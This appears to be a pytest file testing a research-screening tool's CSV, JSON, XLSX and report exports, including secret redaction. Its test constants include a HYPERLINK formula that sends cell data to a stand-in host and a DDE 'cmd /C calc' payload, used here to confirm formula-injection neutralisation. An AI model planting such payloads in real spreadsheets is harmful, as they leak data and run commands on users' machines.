"""tracker.exports on real recorded works: CSV, JSON (against its schema), XLSX, run.json,
the report folder, formula injection and secrets."""

from __future__ import annotations

import csv
import json
import os
import sys
import time
import zipfile
from datetime import date, datetime

import jsonschema
import networkx as nx
import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

import tracker
from tests.browser.demo import (
    DemoResult,
    demo_registry,
    demo_result,
    load_works,
    screen,
    tampered_result,
)
from tracker import exports
from tracker.exports import (
    FOLDER_FILES,
    findings_schema,
    left_out,
    neutralise,
    write_csv,
    write_json,
    write_report_folder,
    write_run,
    write_xlsx,
)
from tracker.redaction import find_secrets, scrub_secrets
from tracker.risk import FINDING_COLUMNS

FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
FORMULA_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
SECRET = "sk-SECRET-5f1c9e"


@pytest.fixture(scope="module")
def demo() -> DemoResult:
    return demo_result()


@pytest.fixture(scope="module")
def formula() -> DemoResult:
    return tampered_result(FORMULA_TITLE, FORMULA_TEXT)


def _secret_run(r: DemoResult) -> dict:
    run = json.loads(json.dumps(r.run))
    run["settings"]["api_key"] = SECRET
    run["settings"]["openalex"] = {"Authorization": f"Bearer {SECRET}", "mailto": "a@b.org"}
    run["command"] = ["tracker", "screen", "--api-key", SECRET, "--org", "I1"]
    run["inputs"].append({"url": f"https://api.openalex.org/works?filter=x&api_key={SECRET}"})
    run["note"] = f"ran with --token={SECRET}"
    return run


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Beihang University", "Beihang University"),
    (" =1", " =1"), ("", ""), (0.5, 0.5), (True, True), (None, None),
])
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def test_csv_has_the_contract_columns_and_every_finding(demo, tmp_path):
    path = write_csv(demo.findings, tmp_path / "findings.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert tuple(rows[0]) == FINDING_COLUMNS
    assert len(rows) == len(demo.findings) + 1
    by_id = {r[0]: dict(zip(FINDING_COLUMNS, r, strict=True)) for r in rows[1:]}
    for f in demo.findings:
        got = by_id[f.finding_id]
        assert got["work_id"] == f.work_id and got["raw_affiliation"] == neutralise(
            f.raw_affiliation)
        assert got["listed_on"] == f.listed_on
        assert got["is_designation"] == ("true" if f.is_designation else "false")
        assert float(got["match_score"]) == f.match_score


def test_csv_neutralises_formulas_from_the_data(formula, tmp_path):
    path = write_csv(formula.findings, tmp_path / "f.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = [dict(zip(FINDING_COLUMNS, r, strict=True)) for r in list(csv.reader(fh))[1:]]
    hit = [r for r in rows if FORMULA_TITLE in r["title"]]
    assert hit
    for r in hit:
        assert r["title"] == "'" + FORMULA_TITLE
        assert r["author_name"] == "'" + FORMULA_TEXT
        assert r["raw_affiliation"] == "'" + FORMULA_TEXT
    for r in rows:  # nothing in any cell starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())


def test_json_validates_against_its_schema(demo, tmp_path):
    schema = findings_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    assert tuple(schema["$defs"]["finding"]["properties"]) == FINDING_COLUMNS
    doc = json.loads(write_json(demo.findings, demo.run, tmp_path / "f.json").read_text())
    jsonschema.validate(doc, schema, cls=jsonschema.Draft202012Validator)
    assert [list(f) for f in doc["findings"][:1]] == [list(FINDING_COLUMNS)]
    assert len(doc["findings"]) == len(demo.findings)
    assert doc["run"]["counts"]["findings"] == len(demo.findings)


def test_schema_rejects_what_it_should(demo, tmp_path):
    doc = json.loads(write_json(demo.findings, demo.run, tmp_path / "f.json").read_text())
    validator = jsonschema.Draft202012Validator(findings_schema())
    for mutate in (
        lambda d: d["findings"][0].__setitem__("listed_at_publication", "probably"),
        lambda d: d["findings"][0].__setitem__("listed_on", "June 2020"),
        lambda d: d["findings"][0].__setitem__("match_score", "1.0"),
        lambda d: d["findings"][0].pop("review_status"),
        lambda d: d["findings"][0].__setitem__("surname_origin", "x"),
        lambda d: d["run"].pop("tool"),
    ):
        bad = json.loads(json.dumps(doc))
        mutate(bad)
        assert not validator.is_valid(bad)


def test_json_keeps_exact_values(formula, tmp_path):
    doc = json.loads(write_json(formula.findings, formula.run, tmp_path / "f.json").read_text())
    assert any(f["title"] == FORMULA_TITLE and f["author_name"] == FORMULA_TEXT
               for f in doc["findings"])


def test_xlsx_types_header_filter_and_run_sheet(demo, tmp_path):
    path = write_xlsx(demo.findings, demo.run, tmp_path / "f.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["findings", "run"]
    ws = wb["findings"]
    assert tuple(c.value for c in ws[1]) == FINDING_COLUMNS
    assert ws.freeze_panes == "A2"
    last = get_column_letter(len(FINDING_COLUMNS))   # columns are additive: no fixed letter
    assert ws.auto_filter.ref == f"A1:{last}{len(demo.findings) + 1}"
    assert ws.max_row == len(demo.findings) + 1
    col = {name: i for i, name in enumerate(FINDING_COLUMNS)}
    by_id = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    for f in demo.findings:
        row = by_id[f.finding_id]
        pub = row[col["publication_date"]]
        if len(f.publication_date) == 10:
            assert isinstance(pub, datetime) and pub.date() == date.fromisoformat(
                f.publication_date)
        else:  # a bare year stays text: never a guessed 1 January
            assert pub == f.publication_date
        if f.listed_on:
            assert row[col["listed_on"]].date() == date.fromisoformat(f.listed_on)
        assert row[col["match_score"]] == f.match_score
        assert row[col["is_designation"]] is f.is_designation
    run = {r[0]: r[1] for r in wb["run"].iter_rows(min_row=2, values_only=True)}
    assert run["counts.findings"] == len(demo.findings)
    assert run["registry.editions[0].list"] == demo.run["registry"]["editions"][0]["list"]
    assert run["tool"] == "tracker"


def test_xlsx_stores_formula_like_text_as_text(formula, tmp_path):
    path = write_xlsx(formula.findings, formula.run, tmp_path / "f.xlsx")
    ws = load_workbook(path)["findings"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row
             if c.value in (FORMULA_TITLE, FORMULA_TEXT)]
    assert len(cells) >= 3
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode("utf-8")


def test_xlsx_survives_control_characters(demo, tmp_path):
    r = tampered_result("a\x00b\x1bc", "=x\x07")
    wb = load_workbook(write_xlsx(r.findings, r.run, tmp_path / "c.xlsx"))
    titles = {row[3] for row in wb["findings"].iter_rows(min_row=2, values_only=True)}
    assert "a\ufffdb\ufffdc" in titles


def test_secrets_never_leave_the_run_record(demo, tmp_path):
    run = _secret_run(demo)
    assert find_secrets(run)
    clean = scrub_secrets(run)
    assert find_secrets(clean) == []
    assert clean["settings"]["openalex"]["mailto"] == "a@b.org"
    assert clean["command"] == ["tracker", "screen", "--api-key", "[redacted]", "--org", "I1"]
    paths = [write_run(run, tmp_path / "run.json"),
             write_json(demo.findings, run, tmp_path / "f.json"),
             write_xlsx(demo.findings, run, tmp_path / "f.xlsx")]
    for p in paths:
        data = p.read_bytes()
        if p.suffix == ".xlsx":
            with zipfile.ZipFile(p) as z:
                data = b"".join(z.read(n) for n in z.namelist())
        assert SECRET.encode() not in data, p.name
    assert find_secrets(json.loads(paths[0].read_text())) == []


def test_the_report_folder_pauses_the_collector_and_gives_it_back(demo, tmp_path,
                                                                   monkeypatch):
    """A run's findings spilled to disk: the folder's passes over them (the case file's,
    findings.jsonl's, the flagged network's, the report's) run with Python's cyclic
    collector paused, whose full passes traced all a pass holds again and again (1,520,560
    findings: the report 20.6 s with them, 11.0 s without); it is on again afterwards."""
    import gc
    from dataclasses import replace

    from tracker.findings import SpooledFindings
    from tracker.risk import finding_order
    from tracker.store import Store

    spool = SpooledFindings(key=finding_order, in_memory=7, folder=tmp_path)
    spool.extend(demo.findings)
    assert spool.finish().spilled
    result = replace(demo, findings=spool)
    seen: dict[str, bool] = {}

    def heard(name, real):
        def call(*a, **k):
            seen[name] = gc.isenabled()
            return real(*a, **k)
        return call

    for name in ("write_findings_jsonl", "flagged_network", "write_report"):
        monkeypatch.setattr(exports, name, heard(name, getattr(exports, name)))
    with Store(tmp_path / "case.db") as store:
        write_report_folder(result, tmp_path / "out",
                            meanwhile=heard("record_run", lambda: store.record_run(result)))
        assert store.findings(store.latest_run_id())
    assert seen == {"write_findings_jsonl": False, "record_run": False,
                    "flagged_network": False, "write_report": False}
    assert gc.isenabled()
    assert (tmp_path / "out" / "report.html").is_file()


def test_report_folder_writes_all_nine_files(demo, tmp_path):
    r = DemoResult(demo.findings, demo.works, _secret_run(demo), demo.subjects)
    files = write_report_folder(r, tmp_path / "out")
    assert list(files) == ["findings.csv", "findings.jsonl", "findings.parquet",
                           "findings.json", "findings.xlsx", "run.json", "report.html",
                           "network.graphml", "network.gexf"]
    for name, p in files.items():
        assert p == tmp_path / "out" / name and p.stat().st_size > 0
        data = p.read_bytes()
        if p.suffix not in (".xlsx", ".parquet"):
            assert SECRET.encode() not in data, name
    g = nx.read_graphml(files["network.graphml"])
    assert g.number_of_nodes() > len(demo.works)
    assert {d["kind"] for _, d in g.nodes(data=True)} == {"work", "author", "institution"}
    assert nx.read_gexf(files["network.gexf"]).number_of_nodes() == g.number_of_nodes()
    doc = json.loads(files["findings.json"].read_text())
    jsonschema.validate(doc, findings_schema(), cls=jsonschema.Draft202012Validator)


def test_report_folder_builds_the_network_and_scrubs_the_run_once(demo, tmp_path, monkeypatch):
    import tracker.exports
    import tracker.graph
    import tracker.redaction
    import tracker.report

    built, scrubbed = [], []
    real_build, real_scrub = tracker.graph.flagged_network, tracker.redaction.scrub_secrets
    run = _secret_run(demo)

    def build(*args, **kwargs):
        built.append(kwargs.get("max_nodes"))
        return real_build(*args, **kwargs)

    def scrub(obj):
        if obj == run:  # the whole record, not one of its parts
            scrubbed.append(1)
        return real_scrub(obj)

    for module in (tracker.exports, tracker.report):
        monkeypatch.setattr(module, "flagged_network", build)
    monkeypatch.setattr(tracker.redaction, "scrub_secrets", scrub)
    r = DemoResult(demo.findings, demo.works, run, demo.subjects)
    files = write_report_folder(r, tmp_path / "out", max_nodes=60)
    assert built == [60] and len(scrubbed) == 1
    page = files["report.html"].read_text("utf-8")
    assert "Pruned to stay readable" in page and SECRET not in page
    drawn = nx.read_graphml(files["network.graphml"])
    assert 0 < len(drawn) <= 60


def test_report_folder_from_the_real_screening_pipeline(tmp_path):
    """Contract check with tracker.screening's ScreenResult (its subjects/run shapes)."""
    from tracker.screening import ScreenSettings, SubjectSpec
    from tracker.screening import screen as real_screen

    works = load_works()
    subject = SubjectSpec(kind="org", ids=("I4210113369",),
                          label="Microsoft Research Asia (China)")
    r = real_screen(works, registry=demo_registry(), settings=ScreenSettings(),
                    subjects=[subject])
    assert r.findings
    files = write_report_folder(r, tmp_path)
    doc = json.loads(files["findings.json"].read_text())
    jsonschema.validate(doc, findings_schema(), cls=jsonschema.Draft202012Validator)
    html_text = files["report.html"].read_text()
    assert "Microsoft Research Asia (China) <code>I4210113369</code>" in html_text
    g = nx.read_graphml(files["network.graphml"])
    assert g.nodes["inst:I4210113369"]["is_subject"] is True


def test_empty_findings_still_write_valid_files(tmp_path):
    r = screen(load_works(limit=3), demo_registry().restricted_to(["CA_NRO"]))
    files = write_report_folder(r, tmp_path)
    with files["findings.csv"].open(encoding="utf-8") as fh:
        assert list(csv.reader(fh)) == [list(FINDING_COLUMNS)]
    doc = json.loads(files["findings.json"].read_text())
    jsonschema.validate(doc, findings_schema(), cls=jsonschema.Draft202012Validator)
    assert doc["findings"] == []
    assert load_workbook(files["findings.xlsx"])["findings"].max_row == 1


def _record_helper_starts(monkeypatch) -> list:
    """Make every report folder use the findings.xlsx helper process; the list collects
    what each start returned (the process and its rows file)."""
    import tracker.exports as ex

    monkeypatch.setattr(ex, "PARALLEL_XLSX_ROWS", 1)
    started: list = []
    real_start = ex._start_xlsx

    def start(*a):
        started.append(real_start(*a))
        return started[-1]

    monkeypatch.setattr(ex, "_start_xlsx", start)
    return started


@pytest.mark.parametrize("helper", [False, True], ids=["workbook here", "workbook process"])
def test_the_folder_reports_its_files_as_they_are_complete(demo, tmp_path, monkeypatch,
                                                          helper):
    """``progress("report", done, total)``: counts that only grow, the last one every file
    written (the tables are counted where they are complete: at once beside the workbook's
    process, at the end when they were written in a thread)."""
    if helper:
        _record_helper_starts(monkeypatch)
    calls: list = []
    files = write_report_folder(demo, tmp_path / "r",
                                progress=lambda *a: calls.append(a))
    assert {stage for stage, _, _ in calls} == {"report"}
    assert calls[-1] == ("report", len(files), len(files))
    assert [d for _, d, _ in calls] == sorted(d for _, d, _ in calls)
    assert {t for _, _, t in calls} == {len(files)}


def test_workbook_from_the_second_process_equals_the_one_written_here(demo, tmp_path,
                                                                      monkeypatch):
    """Above PARALLEL_XLSX_ROWS a spawned process writes findings.xlsx: same cells, and a
    helper process that dies leaves the workbook to be written here."""
    import tracker.exports as ex

    r = DemoResult(demo.findings, demo.works, _secret_run(demo), demo.subjects)
    inline = write_report_folder(r, tmp_path / "inline")["findings.xlsx"]
    started = _record_helper_starts(monkeypatch)
    spawned = write_report_folder(r, tmp_path / "spawned")["findings.xlsx"]
    assert started and started[0] is not None  # a second process did write it
    assert not started[0].payload.exists() and not started[0].run_file.exists()
    assert spawned.stat().st_size > 0

    def cells(p):
        wb = load_workbook(p, read_only=True)
        return {ws.title: [tuple(c.value for c in row) for row in ws.iter_rows()]
                for ws in wb.worksheets}

    assert cells(spawned) == cells(inline)
    assert len(cells(spawned)["findings"]) == len(demo.findings) + 1

    import subprocess
    import sys

    payload = tmp_path / "payload.json"
    payload.write_text("{}")
    dead = subprocess.Popen([sys.executable, "-c", "import os; os.kill(os.getpid(), 9)"])
    monkeypatch.setattr(ex, "_start_xlsx",
                        lambda *a: ex._Xlsx(dead, payload, tmp_path / "payload-run.json"))
    fallback = write_report_folder(r, tmp_path / "fallback")["findings.xlsx"]
    assert cells(fallback) == cells(inline)
    assert not payload.exists()  # the temporary rows file never outlives the run
    assert not (tmp_path / "payload-run.json").exists()  # nor the run record given it


def test_a_failing_report_leaves_no_helper_process_and_no_rows_file(demo, tmp_path,
                                                                     monkeypatch):
    """If another file of the folder fails (or Ctrl-C), the process writing findings.xlsx
    is stopped and the temporary file holding the findings' rows is gone."""
    import tracker.exports

    r = DemoResult(demo.findings, demo.works, _secret_run(demo), demo.subjects)
    started = _record_helper_starts(monkeypatch)

    def broken(*a, **k):
        raise OSError("disk full")

    monkeypatch.setattr(tracker.exports, "write_report", broken)
    with pytest.raises(OSError, match="disk full"):
        write_report_folder(r, tmp_path / "out")
    (proc, payload, run_file), = started
    assert proc.poll() is not None  # stopped, not left running
    assert not payload.exists() and not run_file.exists()


@pytest.mark.parametrize("helper", [False, True], ids=["workbook here", "workbook process"])
def test_meanwhile_runs_beside_the_finding_files_and_before_the_run_record_is_read(
        demo, tmp_path, monkeypatch, helper):
    """``meanwhile`` (a run records its case file there) is called once findings.jsonl is
    written and before the run record is read: what it puts into the record is in
    run.json, findings.json, report.html and the workbook's run sheet, also where a
    second process writes the workbook."""
    import tracker.exports as ex

    if helper:
        _record_helper_starts(monkeypatch)
    r = DemoResult(demo.findings, demo.works, dict(demo.run), demo.subjects)
    out = tmp_path / "r"
    seen: list = []

    def meanwhile():
        writing, = out.glob(ex.WRITING_PREFIX + "*")
        seen.append(sorted(p.name for p in writing.iterdir() if not p.name.startswith(".")))
        assert (writing / "findings.jsonl").read_bytes().count(b"\n") == len(demo.findings)
        r.run["diff"] = {"previous_run": 41, "note": "set meanwhile",
                         "counts": {"new": 0, "gone": 0, "changed": 0, "unchanged": 7}}

    files = write_report_folder(r, out, meanwhile=meanwhile)
    assert len(seen) == 1 and "findings.jsonl" in seen[0]
    assert not {"run.json", "findings.json", "report.html"} & set(seen[0])
    assert json.loads(files["run.json"].read_text())["diff"]["note"] == "set meanwhile"
    assert json.loads(files["findings.json"].read_text())["run"]["diff"]["previous_run"] == 41
    assert "Compared with run 41 of the same screen" in files["report.html"].read_text("utf-8")
    wb = load_workbook(files["findings.xlsx"])
    run_sheet = {row[0]: row[1] for row in wb["run"].iter_rows(min_row=2, values_only=True)
                 if row}
    assert run_sheet["diff.note"] == "set meanwhile"
    assert run_sheet["diff.previous_run"] == 41


def test_an_error_meanwhile_stops_the_workbook_process_and_leaves_no_folder(demo, tmp_path,
                                                                          monkeypatch):
    """An error in ``meanwhile`` (a case file that cannot be written) stops the writing:
    the workbook's process is stopped, its files are gone and no report file is left."""
    started = _record_helper_starts(monkeypatch)

    def meanwhile():
        raise OSError("case file: disk full")

    with pytest.raises(OSError, match="disk full"):
        write_report_folder(demo, tmp_path / "r", meanwhile=meanwhile)
    (proc, payload, run_file), = started
    assert proc.poll() is not None
    assert not payload.exists() and not run_file.exists()
    assert list((tmp_path / "r").iterdir()) == []


@pytest.mark.parametrize("where", ["tracker.exports.write_report",
                                   "tracker.exports.write_network_files"])
def test_a_stopped_rerun_leaves_the_previous_folder_as_it_was(demo, formula, tmp_path,
                                                              monkeypatch, where):
    out = tmp_path / "report"
    (out / "notes").mkdir(parents=True)  # the analyst's own files stay too
    (out / "notes" / "case.txt").write_text("mine")
    write_report_folder(demo, out)
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}

    def stop(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(where, stop)
    with pytest.raises(KeyboardInterrupt):  # a rerun on other data, stopped part-way
        write_report_folder(formula, out)
    after = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert after == before
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["notes", *FOLDER_FILES])  # no half-written folder left behind


# --------------------------------------------------------------------------- at scale


def _jsonl(path):
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


def test_csv_jsonl_and_parquet_hold_every_finding_json_only_the_first(demo, tmp_path):
    """findings.json is capped (and says so); the three streamed files are complete, in the
    same order, with the same values; run.json's outputs record tells which is which."""
    duckdb = pytest.importorskip("duckdb")
    n = len(demo.findings)
    files = write_report_folder(demo, tmp_path, json_max_rows=n // 3)
    rows = [{c: f.row()[c] for c in FINDING_COLUMNS} for f in demo.findings]
    assert _jsonl(files["findings.jsonl"]) == rows
    pq = duckdb.sql(f"SELECT * FROM '{files['findings.parquet']}'").fetchall()
    assert [dict(zip(FINDING_COLUMNS, r, strict=True)) for r in pq] == rows
    with files["findings.csv"].open(encoding="utf-8") as fh:
        assert [r[0] for r in csv.reader(fh)][1:] == [r["finding_id"] for r in rows]
    doc = json.loads(files["findings.json"].read_text("utf-8"))
    jsonschema.validate(doc, findings_schema(), cls=jsonschema.Draft202012Validator)
    assert doc["findings"] == rows[: n // 3]
    assert (doc["complete"], doc["findings_total"]) == (False, n)
    assert f"first {n // 3:,} of {n:,} findings" in doc["left_out"]
    assert "findings.parquet hold every finding" in doc["left_out"]
    run = json.loads(files["run.json"].read_text("utf-8"))
    out = run["outputs"]
    assert out["findings"] == n
    for name in ("findings.csv", "findings.jsonl", "findings.parquet", "findings.xlsx"):
        assert out["files"][name]["findings"] == n and out["files"][name]["complete"], name
    assert out["files"]["findings.json"] == {
        "findings": n // 3, "complete": False, "bytes": files["findings.json"].stat().st_size}
    assert {name: out["files"][name]["bytes"] for name in files if name != "run.json"} == {
        name: p.stat().st_size for name, p in files.items() if name != "run.json"}
    assert [(x["file"], x["findings_left_out"]) for x in out["left_out"]] == [
        ("findings.json", n - n // 3)]
    assert left_out(files) == [f"findings.json: {out['left_out'][0]['reason']}"]


def test_complete_json_below_the_cap(demo, tmp_path):
    files = write_report_folder(demo, tmp_path)
    doc = json.loads(files["findings.json"].read_text("utf-8"))
    assert len(doc["findings"]) == doc["findings_total"] == len(demo.findings)
    assert doc["complete"] is True and "left_out" not in doc
    assert left_out(files) == []


def test_no_workbook_past_the_row_limit_and_none_left_from_before(demo, tmp_path,
                                                                   monkeypatch):
    """Past Excel's row limit findings.xlsx is not written, run.json says why, and a
    workbook a previous (smaller) run left in the folder is removed with the rest."""
    import tracker.exports as ex

    out = tmp_path / "report"
    write_report_folder(demo, out)
    assert (out / "findings.xlsx").is_file()
    n = len(demo.findings)
    monkeypatch.setattr(ex, "XLSX_MAX_ROWS", n - 1)
    files = write_report_folder(demo, out)
    assert "findings.xlsx" not in files and not (out / "findings.xlsx").exists()
    run = json.loads(files["run.json"].read_text("utf-8"))
    assert "findings.xlsx" not in run["outputs"]["files"]
    (skip,) = [x for x in run["outputs"]["left_out"] if x["file"] == "findings.xlsx"]
    assert skip["findings_left_out"] == n
    assert f"{n:,} findings are more than an Excel sheet holds" in skip["reason"]
    assert any(line.startswith("findings.xlsx: not written") for line in left_out(files))
    assert len(_jsonl(files["findings.jsonl"])) == n


def test_no_parquet_without_duckdb_says_so(demo, tmp_path, monkeypatch):
    import tracker.exports as ex

    monkeypatch.setattr(ex, "parquet_available", lambda: False)
    files = write_report_folder(demo, tmp_path)
    assert "findings.parquet" not in files and not (tmp_path / "findings.parquet").exists()
    (line,) = left_out(files)
    assert line.startswith("findings.parquet: not written") and "pip install duckdb" in line


def test_streamed_writers_keep_one_row_at_a_time(demo, tmp_path):
    """The writers take a generator (read once, never listed): the folder never builds the
    rows of every finding at once."""
    from tracker.exports import write_findings_csv, write_findings_jsonl

    def gen():
        yield from demo.findings

    assert write_findings_jsonl(gen(), tmp_path / "f.jsonl") == len(demo.findings)
    assert write_findings_csv(gen(), tmp_path / "f.csv") == len(demo.findings)
    write_json(gen(), {}, tmp_path / "f.json", max_rows=2)
    doc = json.loads((tmp_path / "f.json").read_text("utf-8"))
    assert doc["findings_total"] == len(demo.findings) and len(doc["findings"]) == 2


def test_the_command_line_says_what_the_folder_left_out(tmp_path, capsys, monkeypatch):
    import tracker.exports as ex
    from tracker.cli import main

    monkeypatch.setattr(ex, "XLSX_MAX_ROWS", 10)
    monkeypatch.setattr(ex, "JSON_MAX_ROWS", 5)
    out_dir = tmp_path / "report"
    assert main(["demo", "--out", str(out_dir), "--no-progress"]) == 0
    text = " ".join(capsys.readouterr().out.split())
    n = json.loads((out_dir / "run.json").read_text("utf-8"))["counts"]["findings"]
    assert n > 10
    assert (f"left out: findings.xlsx: not written: {n:,} findings are more than an Excel "
            f"sheet holds (10 rows below the header)") in text
    assert "left out: findings.json: findings.json holds the first 5 findings" in text
    assert not (out_dir / "findings.xlsx").exists()


def test_a_workbook_that_cannot_be_made_is_left_out_not_the_folder(demo, tmp_path,
                                                                    monkeypatch):
    """xlsxwriter refusing the workbook costs findings.xlsx only: the other files are
    written and run.json says why the workbook is missing."""
    from xlsxwriter.exceptions import FileSizeError

    import tracker.exports as ex

    def refuse(*a, **k):
        raise FileSizeError("Filesize would require ZIP64 extensions.")

    monkeypatch.setattr(ex, "_start_xlsx", lambda *a: None)
    monkeypatch.setattr(ex, "write_workbook", refuse)
    files = write_report_folder(demo, tmp_path)
    assert "findings.xlsx" not in files and not (tmp_path / "findings.xlsx").exists()
    assert {"findings.csv", "findings.jsonl", "report.html", "run.json"} <= set(files)
    (line,) = [x for x in left_out(files) if x.startswith("findings.xlsx")]
    assert "FileSizeError" in line and "findings.csv" in line
    run = json.loads(files["run.json"].read_text("utf-8"))
    assert "findings.xlsx" not in run["outputs"]["files"]


# The streamed writers on their own: the same rows as the one-piece writers.
@pytest.fixture(scope="module")
def findings():
    reg = tracker.load_registry()
    res = tracker.screen(tracker.read_works(tracker.demo_works_path()), registry=reg)
    assert len(res.findings) > 250
    return res.findings


def test_streamed_csv_is_the_report_folders_csv(findings, tmp_path):
    n = exports.write_findings_csv(iter(findings), tmp_path / "a.csv")
    write_csv(findings, tmp_path / "b.csv")
    assert n == len(findings)
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


def test_jsonl_and_parquet_hold_every_row_typed(findings, tmp_path):
    jl = tmp_path / "f.jsonl"
    assert exports.write_findings_jsonl(iter(findings), jl) == len(findings)
    rows = [json.loads(line) for line in jl.read_text("utf-8").splitlines()]
    assert rows == [{c: f.row()[c] for c in FINDING_COLUMNS} for f in findings]
    duckdb = pytest.importorskip("duckdb")
    pq = exports.write_findings_parquet(jl, tmp_path / "f.parquet")
    rel = duckdb.sql(f"SELECT * FROM '{pq}'")
    assert tuple(rel.columns) == FINDING_COLUMNS
    got = rel.fetchall()
    assert [dict(zip(FINDING_COLUMNS, r, strict=True)) for r in got] == rows
    assert {type(r[FINDING_COLUMNS.index("is_designation")]) for r in got} == {bool}


def test_the_columns_are_the_findings_fields_in_order():
    """Finding.values() (every field but extra) is what the writers put under the columns."""
    from dataclasses import fields

    from tracker.risk import Finding

    assert tuple(f.name for f in fields(Finding) if f.name != "extra") == FINDING_COLUMNS


def test_csv_cells_of_a_finding_equal_the_cell_by_cell_rule(demo):
    """findings.csv's quick path for a Finding (one check of the whole row) neutralises
    exactly what the cell-by-cell rule does, whichever cell begins like a formula."""
    import dataclasses

    from tracker.exports import _csv_cells, _finding_csv_cells
    from tracker.workbook import FORMULA_START

    f = demo.findings[0]
    assert _finding_csv_cells(f.values()) == _csv_cells(f.values())
    texts = [c for c in FINDING_COLUMNS if isinstance(getattr(f, c), str)]
    for column in texts:
        for start in FORMULA_START:
            g = dataclasses.replace(f, **{column: start + "1+1"})
            assert _finding_csv_cells(g.values()) == _csv_cells(g.values()), (column, start)
            assert not _finding_csv_cells(g.values())[FINDING_COLUMNS.index(column)].startswith(
                FORMULA_START)


# findings.csv of a report folder is written by DuckDB from findings.parquet: the same cells.
TRICKY = ["=SUM(A1)", "+1", "-x", "@a", "\tt", "\rr", "", "a,b", 'q"q', "line\nbreak",
          "cr\rmid", "ünï 中文", "#hash", " lead", "'quoted", "NULL", "null", FORMULA_TEXT]


def _csv_rows(path):
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_from_parquet_has_the_python_writers_cells(formula, tmp_path):
    """Formula-like cells quoted, empty cells, quotes, line breaks, non-Latin text, scores
    and booleans: read back by ``csv``, the DuckDB file equals the Python writer's."""
    pytest.importorskip("duckdb")
    from dataclasses import replace

    base = list(formula.findings)
    scores = [0.1 + 0.2, 1.0, 0.0, 1e-05, 0.5]
    made = [replace(base[i % len(base)], title=t, doi=t, raw_affiliation=t,
                    match_score=scores[i % 5], is_designation=bool(i % 2))
            for i, t in enumerate(TRICKY)]
    findings = made + base
    exports.write_findings_csv(findings, tmp_path / "py.csv")
    exports.write_findings_jsonl(findings, tmp_path / "f.jsonl")
    pq = exports.write_findings_parquet(tmp_path / "f.jsonl", tmp_path / "f.parquet")
    n = exports.write_findings_csv_from_parquet(pq, tmp_path / "dk.csv")
    assert n == len(findings)
    got, want = _csv_rows(tmp_path / "dk.csv"), _csv_rows(tmp_path / "py.csv")
    assert got == want
    assert [r[3] for r in got[1:len(TRICKY) + 1]] == [neutralise(t) for t in TRICKY]
    # CRLF line ends, as the csv module's (the cells' own line breaks are quoted as they are)
    assert (tmp_path / "dk.csv").read_bytes().count(b"\r\n") == n + 1
    assert (tmp_path / "py.csv").read_bytes().count(b"\r\n") == n + 1


def test_report_folder_csv_is_the_csv_writers_even_when_duckdb_fails(formula, tmp_path,
                                                                     monkeypatch):
    pytest.importorskip("duckdb")
    import duckdb

    write_csv(formula.findings, tmp_path / "want.csv")
    files = write_report_folder(formula, tmp_path / "a")
    assert _csv_rows(files["findings.csv"]) == _csv_rows(tmp_path / "want.csv")

    def fail(*a, **k):
        (tmp_path / "b" / "half.csv").write_text("x")
        raise duckdb.IOException("disk said no")

    monkeypatch.setattr(exports, "write_findings_csv_from_parquet", fail)
    (tmp_path / "b").mkdir()
    files = write_report_folder(formula, tmp_path / "b")
    assert files["findings.csv"].read_bytes() == (tmp_path / "want.csv").read_bytes()


@pytest.mark.parametrize("copy", ["write_findings_parquet", "write_findings_csv_from_parquet"])
def test_a_stopped_folder_interrupts_duckdbs_copy_and_writes_no_fallback(formula, tmp_path,
                                                                         monkeypatch, copy):
    """Ctrl-C while findings.parquet or findings.csv is being copied in its thread: DuckDB's
    copy is interrupted (not waited for) and findings.csv is not then written row by row."""
    pytest.importorskip("duckdb")
    import threading

    import duckdb

    copying = threading.Event()
    interrupted = threading.Event()
    rows_written = []

    class Copy:  # a copy that runs until it is interrupted, as DuckDB's does
        def interrupt(self):
            interrupted.set()

    def running(parquet, path, *, on_connect=None, **kw):
        on_connect(Copy())
        try:
            copying.set()
            if not interrupted.wait(30):
                raise AssertionError("never interrupted")
            raise duckdb.InterruptException("INTERRUPT Error: Interrupted!")
        finally:
            on_connect(None)

    def report(*a, **k):
        assert copying.wait(30)
        raise KeyboardInterrupt

    monkeypatch.setattr(exports, copy, running)
    monkeypatch.setattr(exports, "write_report", report)
    monkeypatch.setattr(exports, "write_findings_csv", lambda *a: rows_written.append(a))
    with pytest.raises(KeyboardInterrupt):
        write_report_folder(formula, tmp_path / "out")
    assert interrupted.is_set() and not rows_written
    assert not [t for t in threading.enumerate() if t.name == "tracker-findings-tables"]
    assert list((tmp_path / "out").iterdir()) == []  # no half-written folder left behind


def test_ctrl_c_during_a_duckdb_copy_in_the_main_thread_is_an_interrupt(tmp_path):
    """Ctrl-C while DuckDB copies in the main thread (where the report folder writes its
    tables while the workbook's process runs) stops the run as Ctrl-C does (exit 130), not
    as a failure: DuckDB answers it with ``RuntimeError("Query interrupted")``."""
    pytest.importorskip("duckdb")
    import os
    import signal
    import threading

    if threading.current_thread() is not threading.main_thread():
        pytest.skip("a signal is handled in the main thread only")
